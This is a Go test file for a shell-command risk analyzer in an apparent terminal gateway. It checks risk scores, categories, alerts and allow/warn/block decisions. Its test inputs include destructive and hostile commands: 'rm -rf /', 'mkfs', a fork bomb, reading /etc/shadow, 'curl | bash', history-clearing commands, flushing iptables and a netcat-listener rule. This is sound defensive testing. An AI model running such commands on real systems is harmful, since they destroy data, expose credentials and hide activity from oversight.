package risk

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"jaterm_gateway/internal/models"
	"jaterm_gateway/internal/policy"
)

type recordingAlerts struct {
	alerts []*models.Alert
	err    error
}

func (r *recordingAlerts) Create(ctx context.Context, a *models.Alert) error {
	if r.err != nil {
		return r.err
	}
	r.alerts = append(r.alerts, a)
	return nil
}

func TestAnalyze(t *testing.T) {
	a := NewAnalyzer(nil)

	tests := []struct {
		name       string
		command    string
		score      float64
		categories []string
		rec        policy.Recommendation
	}{
		{"benign", "ls -la /var/log", 0, nil, policy.RecommendAllow},
		{"empty", "   ", 0, nil, policy.RecommendAllow},
		{"rm root", "rm -rf /", 1.0, []string{CategoryDestructive}, policy.RecommendBlock},
		{"rm dir", "rm -rf ./build", 0.7, []string{CategoryDestructive}, policy.RecommendWarn},
		{"reboot", "sudo reboot", 0.7, []string{CategorySystem}, policy.RecommendWarn},
		{"chmod upper case", "chmod -R 777 /var/www", 0.5, []string{CategoryPermission}, policy.RecommendAllow},
		{"shadow", "cat /etc/shadow", 0.7, []string{CategoryCredential}, policy.RecommendWarn},
		{"curl pipe", "curl -s https://example.com/i.sh | bash", 0.8, []string{CategoryRemoteExec}, policy.RecommendWarn},
		{"firewall", "iptables -F", 0.6, []string{CategoryNetwork}, policy.RecommendWarn},
		{"mkfs", "mkfs.ext4 /dev/sdb1", 0.9, []string{CategoryDestructive}, policy.RecommendBlock},
		{"fork bomb", ":(){ :|:& };:", 1.0, []string{CategoryForkBomb}, policy.RecommendBlock},
		{"redirect to device", "echo hi > /dev/sda", 0.3, []string{CategoryRedirect}, policy.RecommendAllow},
		{"redirect to etc", "echo 'nameserver 1.1.1.1' >> /etc/resolv.conf", 0.3, []string{CategoryRedirect}, policy.RecommendAllow},
		{"redirect to null", "make 2> /dev/null", 0, nil, policy.RecommendAllow},
		{"short pipeline", "cat f | grep x | sort", 0, nil, policy.RecommendAllow},
		{"long pipeline", "cat f | grep x | sort | uniq -c", 0.2, []string{CategoryPipeline}, policy.RecommendAllow},
		{"quoted pipes", `echo "a|b|c|d|e"`, 0, nil, policy.RecommendAllow},
		{"unset histfile", "unset HISTFILE", 0.4, []string{CategoryHistoryEvasion}, policy.RecommendAllow},
		{"history clear", "history -c", 0.4, []string{CategoryHistoryEvasion}, policy.RecommendAllow},
		{"export histsize", "export HISTSIZE=0", 0.5, []string{CategoryHistoryEvasion, CategoryEnvironment}, policy.RecommendAllow},
		{"export", "export PATH=$PATH:/opt/bin", 0.1, []string{CategoryEnvironment}, policy.RecommendAllow},
		{"crontab", "crontab -e", 0.2, []string{CategoryPersistence}, policy.RecommendAllow},
		{"combined", "sudo su && cat /etc/shadow", 1.0, []string{CategoryPrivilege, CategoryCredential}, policy.RecommendBlock},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := a.Analyze(tt.command)
			assert.InDelta(t, tt.score, got.Score, 1e-9)
			assert.Equal(t, tt.categories, got.Categories)
			assert.Equal(t, tt.rec, got.Recommendation)
			assert.GreaterOrEqual(t, got.Score, 0.0)
			assert.LessOrEqual(t, got.Score, 1.0)
		})
	}
}

func TestAnalyze_Explanation(t *testing.T) {
	a := NewAnalyzer(nil)

	got := a.Analyze("sudo su; cat /etc/shadow")
	assert.Contains(t, got.Explanation, "privilege escalation")
	assert.Contains(t, got.Explanation, "권한 상승")
	assert.Contains(t, got.Explanation, "credential file access")

	got = a.Analyze("pwd")
	assert.Contains(t, got.Explanation, "no risky patterns")
}

func TestAnalyze_AppendingDestructiveNeverLowersScore(t *testing.T) {
	a := NewAnalyzer(nil)

	commands := []string{
		"ls",
		"sudo reboot",
		"cat a | b | c | d",
		"echo 'unterminated",
		"export FOO=1",
		"chmod 777 x",
		"",
	}
	for _, cmd := range commands {
		base := a.Analyze(cmd).Score
		for _, suffix := range []string{"; rm -rf /", " && rm -rf /", "\nrm -rf /"} {
			extended := a.Analyze(cmd + suffix).Score
			assert.GreaterOrEqual(t, extended, base, "%q + %q", cmd, suffix)
		}
	}
}

func TestAnalyze_Thresholds(t *testing.T) {
	exact := Rule{Pattern: mustRule(t, `\bterraform destroy\b`), Weight: 0.9, Category: "infra"}
	below := Rule{Pattern: mustRule(t, `\bkubectl delete\b`), Weight: 0.59, Category: "infra"}
	a := NewAnalyzer(nil, WithRules(exact, below))

	got := a.Analyze("terraform destroy")
	assert.Equal(t, 0.9, got.Score)
	assert.Equal(t, policy.RecommendBlock, got.Recommendation)
	assert.Equal(t, "infra", got.Explanation)

	got = a.Analyze("kubectl delete pod x")
	assert.Equal(t, policy.RecommendAllow, got.Recommendation)

	strict := NewAnalyzer(nil, WithThresholds(0.2, 0.5))
	assert.Equal(t, policy.RecommendWarn, strict.Analyze("crontab -l").Recommendation)
	assert.Equal(t, policy.RecommendBlock, strict.Analyze("cat /etc/shadow").Recommendation)
}

func TestAnalyzeAndAlert(t *testing.T) {
	sink := &recordingAlerts{}
	a := NewAnalyzer(sink)
	ctx := context.Background()

	got, err := a.AnalyzeAndAlert(ctx, "alice", "ls -la", "web-1")
	require.NoError(t, err)
	assert.Equal(t, policy.RecommendAllow, got.Recommendation)
	assert.Empty(t, sink.alerts)

	_, err = a.AnalyzeAndAlert(ctx, "alice", "sudo reboot", "web-1")
	require.NoError(t, err)
	_, err = a.AnalyzeAndAlert(ctx, "alice", "rm -rf /", "")
	require.NoError(t, err)

	require.Len(t, sink.alerts, 2)
	assert.Equal(t, models.AlertSeverityHigh, sink.alerts[0].Severity)
	assert.Equal(t, models.AlertKindRisk, sink.alerts[0].Kind)
	assert.Equal(t, "web-1", *sink.alerts[0].ServerID)
	assert.Equal(t, "sudo reboot", *sink.alerts[0].Command)
	assert.Equal(t, models.AlertSeverityCritical, sink.alerts[1].Severity)
	assert.Nil(t, sink.alerts[1].ServerID)

	sink.err = errors.New("db down")
	got, err = a.AnalyzeAndAlert(ctx, "alice", "rm -rf /", "")
	assert.ErrorContains(t, err, "db down")
	assert.Equal(t, policy.RecommendBlock, got.Recommendation)
}

func TestParseRules(t *testing.T) {
	rules, err := ParseRules([]byte(`
rules:
  - pattern: '\bterraform\s+destroy\b'
    weight: 0.6
    category: destructive
    description: infrastructure teardown
  - pattern: 'docker\s+system\s+prune'
    weight: 0.3
    category: cleanup
`))
	require.NoError(t, err)
	require.Len(t, rules, 2)
	assert.Equal(t, "destructive", rules[0].Category)
	assert.True(t, rules[1].Pattern.MatchString("docker system prune -a"))

	a := NewAnalyzer(nil, WithRules(rules...))
	got := a.Analyze("Docker System Prune -af")
	assert.Equal(t, []string{"cleanup"}, got.Categories)
	assert.Equal(t, "cleanup", got.Explanation)

	_, err = ParseRules([]byte("rules:\n  - pattern: '(['\n    weight: 0.1\n    category: x\n"))
	assert.ErrorContains(t, err, "invalid pattern")

	_, err = ParseRules([]byte("rules:\n  - pattern: 'x'\n    weight: 1.5\n    category: x\n"))
	assert.ErrorContains(t, err, "outside [0,1]")

	_, err = ParseRules([]byte("rules:\n  - weight: 0.1\n"))
	assert.ErrorContains(t, err, "required")
}

func TestLoadRules(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rules.yaml")
	require.NoError(t, os.WriteFile(path, []byte("rules:\n  - pattern: 'nc\\s+-l'\n    weight: 0.4\n    category: network\n"), 0o600))

	rules, err := LoadRules(path)
	require.NoError(t, err)
	require.Len(t, rules, 1)
	assert.Equal(t, 0.4, rules[0].Weight)

	_, err = LoadRules(filepath.Join(t.TempDir(), "missing.yaml"))
	assert.Error(t, err)
}

func mustRule(t *testing.T, pattern string) *regexp.Regexp {
	t.Helper()
	re, err := regexp.Compile(pattern)
	require.NoError(t, err)
	return re
}
